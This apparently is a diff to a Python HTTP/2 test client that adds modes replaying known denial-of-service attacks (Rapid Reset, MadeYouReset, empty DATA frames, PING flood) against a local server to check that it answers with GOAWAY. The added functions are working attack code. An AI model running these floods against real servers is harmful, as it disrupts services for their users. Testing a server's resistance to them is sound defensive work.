@@ -21,6 +21,19 @@
     h2_raw_client.py PORT AUTHORITY noread PATH
         Announces a stream window of 0, GETs PATH and never opens the window; prints how the
         stream ended and after how many seconds ("noread <outcome> <seconds>").
+    h2_raw_client.py PORT AUTHORITY rapidreset PATH
+        Rapid Reset: 1,000 streams for PATH/<n>, each HEADERS followed at once by RST_STREAM
+        (CANCEL), written in batches of 50; prints the GOAWAY's code and last stream if one came
+        ("rapidreset goaway <code> last <stream>" or "rapidreset goaway none").
+    h2_raw_client.py PORT AUTHORITY provoke PATH
+        MadeYouReset: 150 valid GETs for PATH, each followed by a WINDOW_UPDATE that overflows
+        the stream's window (the server must reset it); prints how many resets came and the
+        GOAWAY's code and last stream ("provoke resets <n> goaway <code> last <stream>").
+    h2_raw_client.py PORT AUTHORITY emptyframes PATH
+        A POST to PATH followed by 300 empty DATA frames; prints "emptyframes goaway <code>".
+    h2_raw_client.py PORT AUTHORITY pingflood
+        Sends 20,000 PINGs with a 4 KiB receive buffer, reading nothing; then reads what came and
+        prints "pingflood goaway <code> closed" when the connection ended with a GOAWAY.
 Header blocks are HPACK literals without indexing or Huffman (but for the table entry); response heads are read only for
 ":status" (indexed in the static table, or a literal).
 """
@@ -261,6 +274,88 @@ def flood(port, authority, path):
     print("resets", resets, "goaway", goaway, "valid", valid)
 
 
+def goaway_of(payload):
+    return "%d last %d" % (struct.unpack(">I", payload[4:8])[0], struct.unpack(">I", payload[:4])[0] & 0x7FFFFFFF)
+
+
+def read_goaway(c, count_resets=False):
+    """Reads to the connection's end; returns (resets seen, the first GOAWAY or "none")."""
+    resets, goaway = 0, "none"
+    while True:
+        try:
+            f = c.read_frame()
+        except (ConnectionResetError, socket.timeout):
+            break
+        if f is None:
+            break
+        kind, flags, stream, payload = f
+        if kind == 3:
+            resets += 1
+        elif kind == 7 and goaway == "none":
+            goaway = goaway_of(payload)
+    return resets, goaway
+
+
+def rapidreset(port, authority, path):
+    c = Connection(port)
+    cancel = struct.pack(">I", 8)
+    try:
+        for batch in range(20):
+            ids = [1 + 2 * (50 * batch + i) for i in range(50)]
+            c.sock.sendall(b"".join(frame(1, 0x5, i, block(get(authority, "%s/%d" % (path, i)))) + frame(3, 0, i, cancel)
+                                    for i in ids))
+    except (BrokenPipeError, ConnectionResetError):
+        pass
+    print("rapidreset goaway", read_goaway(c)[1])
+
+
+def provoke(port, authority, path):
+    c = Connection(port)
+    overflow = struct.pack(">I", 0x7FFFFFFF)
+    try:
+        for batch in range(3):
+            ids = [1 + 2 * (50 * batch + i) for i in range(50)]
+            c.sock.sendall(b"".join(frame(1, 0x5, i, block(get(authority, path))) + frame(8, 0, i, overflow) for i in ids))
+    except (BrokenPipeError, ConnectionResetError):
+        pass
+    resets, goaway = read_goaway(c)
+    print("provoke resets", resets, "goaway", goaway)
+
+
+def emptyframes(port, authority, path):
+    c = Connection(port)
+    post = [(":method", "POST"), (":scheme", "http"), (":authority", authority), (":path", path)]
+    c.sock.sendall(frame(1, 0x4, 1, block(post)) + frame(0, 0, 1) * 300)
+    print("emptyframes goaway", read_goaway(c)[1].split(" ")[0])
+
+
+def pingflood(port):
+    s = socket.socket()
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+    s.settimeout(10)
+    s.connect(("127.0.0.1", port))
+    s.sendall(PREFACE + frame(4, 0, 0))
+    ping = frame(6, 0, 0, b"12345678")
+    try:
+        for _ in range(40):
+            s.sendall(ping * 500)
+    except (BrokenPipeError, ConnectionResetError, socket.timeout):
+        pass
+    c = Connection.__new__(Connection)
+    c.sock, c.buffer = s, b""
+    goaway = "none"
+    try:
+        while True:
+            f = c.read_frame()
+            if f is None:
+                break
+            if f[0] == 7 and goaway == "none":
+                goaway = str(struct.unpack(">I", f[3][4:8])[0])
+    except (ConnectionResetError, socket.timeout, BrokenPipeError):
+        pass
+    print("pingflood goaway", goaway, "closed")
+
+
 if __name__ == "__main__":
     port, authority, mode = int(sys.argv[1]), sys.argv[2], sys.argv[3]
     if mode == "reset":
@@ -271,6 +366,14 @@ if __name__ == "__main__":
         stall(port, authority, sys.argv[4])
     elif mode == "flood":
         flood(port, authority, sys.argv[4])
+    elif mode == "rapidreset":
+        rapidreset(port, authority, sys.argv[4])
+    elif mode == "provoke":
+        provoke(port, authority, sys.argv[4])
+    elif mode == "emptyframes":
+        emptyframes(port, authority, sys.argv[4])
+    elif mode == "pingflood":
+        pingflood(port)
     elif mode == "noread":
         noread(port, authority, sys.argv[4])
     else:
